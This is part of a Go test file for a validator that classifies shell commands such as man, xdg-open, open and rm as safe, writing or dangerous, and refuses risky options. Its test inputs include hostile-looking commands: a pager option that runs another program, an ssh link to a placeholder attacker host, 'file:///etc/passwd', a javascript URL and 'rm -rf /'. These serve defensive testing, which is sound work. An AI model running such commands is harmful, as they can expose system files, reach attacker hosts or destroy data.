		// A pager, a browser or a local file: refused, saying why.
		{"man -P cat ls", "", Safe, nil, fault(RefusedOption, 1)},
		{"man --pager=id ls", "", Safe, nil, fault(RefusedOption, 1)},
		{"man -Hfirefox ls", "", Safe, nil, fault(RefusedOption, 1)},
		{"man -H ls", "", Safe, nil, fault(RefusedOption, 1)},
		{"man --html=firefox ls", "", Safe, nil, fault(RefusedOption, 1)},
		{"man -l ./evil.1", "", Safe, nil, fault(RefusedOption, 1)},
		{"man ls cp", "", Safe, nil, "SECTION must be a whole number"},
		{"man -w", "", Safe, nil, "requires [SECTION] TOPIC"},
	})
}

func TestOpeners(t *testing.T) {
	runSysCases(t, []sysCase{
		{"xdg-open .", "xdg-open .", Write, nil, ""},
		{"xdg-open notes.pdf", "xdg-open notes.pdf", Write, nil, ""},
		{"xdg-open App.Desktop", "xdg-open App.Desktop", Dangerous, nil, "may run it as a program"},
		{"xdg-open install.sh", "xdg-open install.sh", Dangerous, nil, "may run it as a program"},
		{"xdg-open ssh:evil.example", "xdg-open ssh:evil.example", Dangerous, nil, "that scheme's handler"},
		{"xdg-open javascript:alert(1)", "xdg-open javascript:alert(1)", Dangerous, nil, "that scheme's handler"},
		{"xdg-open ./a:b", "xdg-open ./a:b", Write, nil, ""},
		{"xdg-open https://evil.example", "", Write, nil, "must refer to a local filesystem target"},
		{"xdg-open mailto:a@example.com", "", Write, nil, "must refer to a local filesystem target"},
		{"xdg-open file:///etc/passwd", "", Write, nil, "must refer to a local filesystem target"},
		{"xdg-open a b", "", Write, nil, fault(TooManyOperands, 2)},
		{"xdg-open --manual", "", Safe, nil, fault(UnknownOption, 1)}, // prints its manual
		{"xdg-open --help", "xdg-open --help", Safe, nil, ""},         // opens nothing
		{"xdg-open --version", "xdg-open --version", Safe, nil, ""},
		{"xdg-open --help notes.pdf", "", Write, nil, "Option '--help' for 'xdg-open' is supported only alone"},
		{"open .", "open .", Safe, nil, ""},
		{"open -R notes.txt", "open -R notes.txt", Safe, nil, ""},
		{"open -t a.txt b.txt", "open -t a.txt b.txt", Safe, nil, ""},
		{"open -R Tool.app/", "open -R Tool.app/", Dangerous, nil, "may run it as a program"},
		{"open -a Terminal x", "", Safe, nil, fault(UnknownOption, 1)},
		{"open -b com.apple.Terminal", "", Safe, nil, fault(UnknownOption, 1)},
		{"open http://example.com", "", Safe, nil, "must refer to a local filesystem target"},
		{"open vnc:host", "open vnc:host", Dangerous, nil, "that scheme's handler"},
	})
}

// TestHelpVersion: --help and --version, alone, print text and change
// nothing, whatever the family otherwise does; with anything else they
// are refused, so what runs is never more than the help.
func TestHelpVersion(t *testing.T) {
	runSysCases(t, []sysCase{
		{"rm --help", "rm --help", Safe, nil, ""},
		{"rm --help -rf /", "", Dangerous, nil, "Option '--help' for 'rm' is supported only alone ('rm --help')"},
		{"cp --version", "cp --version", Safe, nil, ""},
		{"tar --help", "tar --help", Safe, nil, ""},
		{"find --version", "find --version", Safe, nil, ""},
		{"grep --help", "grep --help", Safe, nil, ""},
		{"ps --help", "ps --help", Safe, nil, ""},
		{"chmod --help", "chmod --help", Safe, nil, ""},
		{"curl --version", "curl --version", Safe, nil, ""},
		{"ping --help", "", Safe, nil, fault(UnknownOption, 1)}, // iputils ping has -V only
		{"dig --help", "", Safe, nil, fault(UnknownOption, 1)},
		{"unzip --help", "", Safe, nil, fault(UnknownOption, 1)},
	})
	for _, line := range [][]string{{"curl", "--version"}, {"curl", "--help"}} {
		cmd, err := Default().Family("curl").ReadArgv(line)
		if err != nil || cmd.Network() || !cmd.HelpOnly() {
			t.Errorf("%q: read %v (%v); want help only, without the network", line, cmd, err)
		}
	}
}
